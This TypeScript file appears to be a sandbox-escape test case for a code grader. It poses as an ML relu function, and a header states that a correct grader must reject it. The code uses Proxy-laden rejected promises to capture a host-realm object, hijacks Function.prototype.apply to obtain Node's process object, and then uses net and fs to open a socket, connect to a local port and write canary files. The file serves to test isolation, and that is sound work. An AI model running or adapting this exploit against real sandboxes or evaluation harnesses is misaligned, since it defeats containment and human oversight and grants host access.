// 97-rejected-proxy [escape]
// Tries: rejects promises whose prototype, reason and constructor are proxies, so that Node looks into them
// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-97.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-97', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
const see: any = { get(_t: any, k: any, r: any) { take(k); take(r); climb(); pwn(); return undefined; }, has(_t: any, k: any) { take(k); return false; }, getOwnPropertyDescriptor(_t: any, k: any) { take(k); return undefined; }, set(_t: any, _k: any, v: any, r: any) { take(v); take(r); return true; }, getPrototypeOf() { return Error.prototype; } };
for (let i = 0; i < 50; i++) { const p: any = new Promise((_, no) => { Promise.resolve().then(() => no(new Proxy({}, see))); }); Object.setPrototypeOf(p, new Proxy({}, see)); }
await 0; await 0;
export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
